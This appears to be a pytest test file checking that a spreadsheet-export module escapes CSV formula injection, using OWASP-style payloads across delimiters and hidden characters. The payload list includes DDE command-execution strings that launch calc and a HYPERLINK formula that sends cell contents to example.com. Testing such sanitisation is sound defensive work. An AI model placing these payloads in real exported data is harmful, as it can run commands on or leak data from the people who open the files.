"""No cell runs. The authorities: OWASP "CSV Injection" (its list and its examples), RFC 4180 as Python's csv reads it,
and openpyxl, which knows a formula from a text. The rule is also held against every way in which a spreadsheet could
cut the file into cells."""

from __future__ import annotations

import csv
import io
import re
import time
from datetime import date, datetime
from itertools import product

import openpyxl
import pytest

from metrics.spreadsheet import BYTE_ORDER_MARK, LONGEST_CELL, chunks, file, harmless, line

SIGNS = "=+-@＝＋－＠"
OWASP = [
    "=1+2\";=1+2",
    "=1+2'\" ;,=1+2",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+HYPERLINK(\"http://example.com?x=\"&A1,\"click\")",
    "%0A-3+3+cmd|' /C calc'!D2",
    ";=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    '"=1+1"',
    "'=1+1",
    "   =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b\u202e=1+1",
    "\x00=1+1",
    "fine; \"=1+1",
    "fine\n=1+1",
    "a\",\"=1+1",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
]  # fmt: skip


def cells_of(content: bytes, delimiter: str) -> list[str]:
    """Every cell as a spreadsheet that cuts at this character sees it."""
    assert content.startswith(BYTE_ORDER_MARK)
    text = content[3:].decode("utf-8")
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]


def runs(cell: str) -> bool:
    """OWASP's list, with blanks and quotes before it passed over."""
    return bool(re.match(rf"[\s\"“”]*[{re.escape(SIGNS)}]", cell)) or (cell[:1] in "\t\r\n" and cell != "")


@pytest.mark.parametrize("text", OWASP)
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_cell_begins_a_formula_wherever_the_file_is_cut(text: str, delimiter: str) -> None:
    content = file([["before", text, "after"], [text, 1.5, text]])
    assert runs(text) or any(sign in text for sign in SIGNS), "the text would run"
    assert not [cell for cell in cells_of(content, delimiter) if runs(cell)]


@pytest.mark.parametrize("text", OWASP)
def test_openpyxl_sees_no_formula(text: str) -> None:
    sheet = openpyxl.Workbook().active
    assert sheet is not None
    sheet.append(["=1+1", *cells_of(file([[text]]), ",")])
    kinds = [cell.data_type for cell in sheet[1]]
    assert kinds[0] == "f", "openpyxl would have said so"
    assert "f" not in kinds[1:]


@pytest.mark.parametrize(("before", "sign"), list(product(["", " ", '"', "'", " \"'", "\u00a0", "\u200b"], SIGNS)))
def test_blanks_and_quotes_do_not_hide_a_sign(before: str, sign: str) -> None:
    assert harmless(f"{before}{sign}1+1").startswith("'")
    assert harmless(f"a{before}{sign}1") == f"a{before.replace(chr(0x200B), '')}{sign}1", "inside a text it is a sign"


def test_what_is_no_formula_stays_as_it_is() -> None:
    for text in ("Zürich", "they were late – again", "a=b", "5 stars", "-6", "+1.1", "-5,000", "12 %", "−6.1", "", "'"):
        assert harmless(text) == text
    assert harmless("-6 points") == "'-6 points"


def test_rows_come_back_as_they_went_in() -> None:
    rows = [["Zürich", 'say "hi"', "two\r\nlines", "a,b;c"], ["", "x", "ü…", "日本"]]
    text = file(rows)[3:].decode("utf-8")
    assert list(csv.reader(io.StringIO(text, newline=""), strict=True)) == rows
    assert b"".join(chunks(rows)) == file(rows)


def test_numbers_times_and_nothing() -> None:
    written = line([7, -2.5, 9.0, 0.1, float("nan"), None, date(2026, 1, 5), datetime(2026, 1, 5, 9, 7, 3), "-2.5"])
    assert written == '7,-2.5,9,0.1,,,"2026-01-05","2026-01-05 09:07","-2.5"\r\n'


def test_a_cell_is_no_longer_than_excel_takes_and_a_megabyte_takes_no_time() -> None:
    began = time.monotonic()
    blanks = " " * 1_000_000 + "=1"
    for text in (
        "x" * 1_000_000,
        "\n" * 1_000_000,
        "\n=" * 500_000,
        blanks,
        '"' * 1_000_000,
        ";'=" * 300_000,
    ):
        assert len(harmless(text)) <= 32_767
    assert harmless("x" * (LONGEST_CELL + 1)).endswith(" …")
    assert time.monotonic() - began < 2
